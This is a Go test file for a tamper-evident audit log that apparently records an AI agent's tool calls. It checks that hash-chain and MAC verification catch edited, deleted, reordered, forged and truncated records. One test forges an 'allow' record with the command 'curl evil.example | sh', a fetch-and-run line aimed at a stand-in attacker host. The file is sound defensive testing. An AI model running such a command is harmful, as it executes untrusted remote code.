package audit

import (
	"encoding/json"
	"strings"
	"testing"
)

var testKey = []byte("correct horse battery staple 42!")

// reencode parses each line and writes it again with recomputed seq and prev
// (an attacker without the key rewriting the file): the old mac is kept, or
// dropped with dropMAC.
func reencode(t *testing.T, lines []string, dropMAC bool) []string {
	t.Helper()
	out := make([]string, len(lines))
	prev := GenesisPrev
	for i, l := range lines {
		var r Record
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatal(err)
		}
		r.Seq, r.Prev = int64(i+1), prev
		if dropMAC {
			r.MAC = ""
		}
		b, err := appendRecord(nil, &r, true)
		if err != nil {
			t.Fatal(err)
		}
		out[i] = string(b)
		prev = sha(out[i])
	}
	return out
}

func TestTamperCorpus(t *testing.T) {
	plainPath := sampleLog(t, Options{})
	keyedPath := sampleLog(t, Options{Key: testKey})
	for _, p := range []string{plainPath, keyedPath} {
		if rep := verifyFile(t, p, keyKeyed(p == keyedPath), ""); !rep.Intact || rep.Records != 17 {
			t.Fatalf("pristine log not intact: %+v", rep)
		}
	}

	type tc struct {
		name   string
		mutate func(l []string) []byte
		expect bool // pass the original head as expectHead
		kind   string
		line   int
		// with the key, when it differs
		keyedKind string
		keyedLine int
	}
	cases := []tc{
		{"flip a byte in a field", func(l []string) []byte {
			l[4] = strings.Replace(l[4], "sudo rm", "sudo rn", 1)
			return joinLines(l)
		}, false, DamageEdited, 5, "", 0},
		{"flip a byte in the first line", func(l []string) []byte {
			l[0] = strings.Replace(l[0], "failing", "faiLing", 1)
			return joinLines(l)
		}, false, DamageEdited, 1, "", 0},
		{"edit the seq of a line", func(l []string) []byte {
			l[4] = strings.Replace(l[4], `"seq":5,`, `"seq":9,`, 1)
			return joinLines(l)
		}, false, DamageEdited, 5, "", 0},
		{"delete a line", func(l []string) []byte {
			return joinLines(append(l[:4:4], l[5:]...))
		}, false, DamageDeleted, 5, "", 0},
		{"delete the first line", func(l []string) []byte {
			return joinLines(l[1:])
		}, false, DamageDeleted, 1, "", 0},
		{"delete three lines", func(l []string) []byte {
			return joinLines(append(l[:4:4], l[7:]...))
		}, false, DamageDeleted, 5, "", 0},
		{"swap two lines", func(l []string) []byte {
			l[4], l[5] = l[5], l[4]
			return joinLines(l)
		}, false, DamageReordered, 5, "", 0},
		{"move a line later", func(l []string) []byte {
			moved := l[2]
			rest := append(append([]string{}, l[:2]...), l[3:8]...)
			rest = append(append(rest, moved), l[8:]...)
			return joinLines(rest)
		}, false, DamageReordered, 3, "", 0},
		{"insert a forged line with recomputed prev", func(l []string) []byte {
			var r Record
			json.Unmarshal([]byte(l[4]), &r)
			r.Args = map[string]any{"command": "curl evil.example | sh"}
			r.Decision, r.Rule, r.MAC = "allow", "commands.allow[0]", ""
			r.Seq++
			r.Prev = sha(l[4])
			b, _ := appendRecord(nil, &r, true)
			return joinLines(append(append(append([]string{}, l[:5]...), string(b)), l[5:]...))
		}, false, DamageInserted, 6, "", 0},
		{"duplicate a line", func(l []string) []byte {
			return joinLines(append(append(append([]string{}, l[:5]...), l[4]), l[5:]...))
		}, false, DamageInserted, 6, "", 0},
		{"replace a line with garbage", func(l []string) []byte {
			l[6] = "this is not json"
			return joinLines(l)
		}, false, DamageEdited, 7, "", 0},
		{"append garbage", func(l []string) []byte {
			return joinLines(append(l, "{oops"+`"`))
		}, false, DamageMalformed, 18, "", 0},
		{"truncate mid-line at the end", func(l []string) []byte {
			b := joinLines(l)
			return b[:len(b)-40]
		}, false, DamageTruncated, 17, "", 0},
		{"truncate the file in the middle of line 8", func(l []string) []byte {
			b := []byte(strings.Join(l[:7], "\n") + "\n" + l[7][:len(l[7])/2])
			return b
		}, false, DamageTruncated, 8, "", 0},
		{"remove the tail (with expected head)", func(l []string) []byte {
			return joinLines(l[:14])
		}, true, DamageTailCut, 15, "", 0},
		{"edit the last line (with expected head)", func(l []string) []byte {
			l[16] = strings.Replace(l[16], "FAIL", "PASS", 1)
			return joinLines(l)
		}, true, DamageTailCut, 18, DamageBadMAC, 17},
	}
	for _, c := range cases {
		for _, keyed := range []bool{false, true} {
			name := c.name
			if keyed {
				name += "/keyed"
			}
			t.Run(name, func(t *testing.T) {
				path := plainPath
				if keyed {
					path = keyedPath
				}
				orig := readLines(t, path)
				head := sha(orig[len(orig)-1])
				expect := ""
				if c.expect {
					expect = head
				}
				rep := verifyBytes(t, c.mutate(append([]string{}, orig...)), keyKeyed(keyed), expect)
				// Without a key the line before a deletion is unconfirmed
				// (it may have been edited too); with a key its MAC
				// vouches for it.
				wantUnconfirmed := !keyed && c.kind == DamageDeleted && c.line > 1
				var rest []Damage
				gotUnconfirmed := false
				for _, d := range rep.Damage {
					if d.Kind == DamageUnconfirmed {
						gotUnconfirmed = gotUnconfirmed || d.Line == c.line-1
						if !wantUnconfirmed {
							t.Errorf("spurious %s", d)
						}
						continue
					}
					rest = append(rest, d)
				}
				if wantUnconfirmed != gotUnconfirmed {
					t.Errorf("line %d unconfirmed: got %v, want %v\n%s", c.line-1, gotUnconfirmed, wantUnconfirmed, rep)
				}
				rep.Damage = rest
				if len(rest) > 0 {
					rep.First = &rest[0]
				}
				kind, line := c.kind, c.line
				if keyed && c.keyedKind != "" {
					kind, line = c.keyedKind, c.keyedLine
				}
				if rep.Intact || rep.First == nil || rep.First.Kind != kind || rep.First.Line != line {
					t.Fatalf("want %s at line %d, got %+v first=%v", kind, line, rep, rep.First)
				}
				if !strings.Contains(rep.String(), "line ") {
					t.Errorf("report does not name the line: %s", rep)
				}
				for _, d := range rep.Damage {
					if d.Line != line && d.Line != c.line {
						t.Errorf("spurious damage %s (want only line %d)", d, line)
					}
				}
				t.Logf("%s", rep.Damage)
			})
		}
	}
}

func keyKeyed(keyed bool) []byte {
	if keyed {
		return testKey
	}
	return nil
}

func TestTamperTailWithoutExpectHead(t *testing.T) {
	path := sampleLog(t, Options{})
	l := readLines(t, path)
	rep := verifyBytes(t, joinLines(l[:len(l)-1]), nil, "")
	if !rep.Intact {
		t.Fatalf("a cut tail alone is not detectable without a head: %+v", rep)
	}
	full := sampleLog(t, Options{})
	fl := readLines(t, full)
	// The first session's end is cut: it shows as never ended.
	rep = verifyBytes(t, joinLines(fl[:8]), nil, "")
	if len(rep.Unended) != 1 || rep.Unended[0] != "sess-aaaaaaaa-1" {
		t.Fatalf("unended: %v", rep.Unended)
	}
	// A head that is still in the log (the log grew since) is fine.
	rep = verifyBytes(t, joinLines(fl), nil, sha(fl[10])[:12])
	if !rep.Intact {
		t.Fatalf("earlier head must be accepted: %+v", rep.First)
	}
}

// A whole file rewritten with recomputed hashes and seqs passes the chain
// check; only the MAC reveals it.
func TestTamperRewriteWholeFile(t *testing.T) {
	path := sampleLog(t, Options{Key: testKey})
	l := readLines(t, path)
	l = append(l[:4:4], l[5:]...) // drop the denied call
	l[3] = strings.Replace(l[3], "foo", "bar", 1)
	for _, drop := range []bool{false, true} {
		forged := joinLines(reencode(t, l, drop))
		if rep := verifyBytes(t, forged, nil, ""); !rep.Intact {
			t.Fatalf("without the key the rewrite is undetectable, got %v", rep.First)
		}
		rep := verifyBytes(t, forged, testKey, "")
		// The kept MACs still match the unchanged lines 1-3; dropped ones
		// are missing from line 1.
		want, line := DamageBadMAC, 4
		if drop {
			want, line = DamageMissingMAC, 1
		}
		if rep.Intact || rep.First.Kind != want || rep.First.Line != line {
			t.Fatalf("with the key: want %s at line %d, got %+v", want, line, rep.First)
		}
	}
	// Sanity: re-encoding without changes and with the MAC kept is intact.
	if rep := verifyBytes(t, joinLines(reencode(t, readLines(t, path), false)), testKey, ""); !rep.Intact {
		t.Fatalf("re-encoding changed the bytes: %v", rep.First)
	}
}

func TestVerifyWrongKeyAndNoMAC(t *testing.T) {
	keyed := sampleLog(t, Options{Key: testKey})
	rep := verifyFile(t, keyed, []byte("wrong key"), "")
	if rep.Intact || rep.First.Kind != DamageBadMAC || rep.First.Line != 1 {
		t.Fatalf("wrong key: %+v", rep.First)
	}
	plain := sampleLog(t, Options{})
	rep = verifyFile(t, plain, testKey, "")
	if rep.Intact || rep.First.Kind != DamageMissingMAC || rep.First.Line != 1 {
		t.Fatalf("no mac: %+v", rep.First)
	}
	rep = verifyFile(t, keyed, nil, "")
	if !rep.Intact || rep.MACs != 17 || !strings.Contains(rep.String(), "no key was given") {
		t.Fatalf("keyed log without key: %+v\n%s", rep, rep)
	}
	if _, err := Verify(strings.NewReader(""), nil, "xyz"); err == nil {
		t.Fatal("bad expected head accepted")
	}
}

func TestVerifyReportString(t *testing.T) {
	path := sampleLog(t, Options{Key: testKey})
	rep := verifyFile(t, path, testKey, "")
	s := rep.String()
	want := "ok: 17 records, 2 sessions, chain intact, MACs valid (head " + rep.Head + ")\n" +
		"session sess-bbbbbbbb-2 never ended (crash, kill, or records cut from the end)\n"
	if s != want {
		t.Fatalf("got\n%s\nwant\n%s", s, want)
	}
	l := readLines(t, path)
	l[4] = strings.Replace(l[4], "sudo", "sudO", 1)
	rep = verifyBytes(t, joinLines(l), nil, "")
	if !strings.HasPrefix(rep.String(), "line 5: record edited (hash chain broken: line 6's prev does not match this line)\n") {
		t.Fatalf("got %s", rep)
	}
	empty := verifyBytes(t, nil, nil, "")
	if !empty.Intact || empty.Records != 0 || empty.Head != "" {
		t.Fatalf("empty: %+v", empty)
	}
}
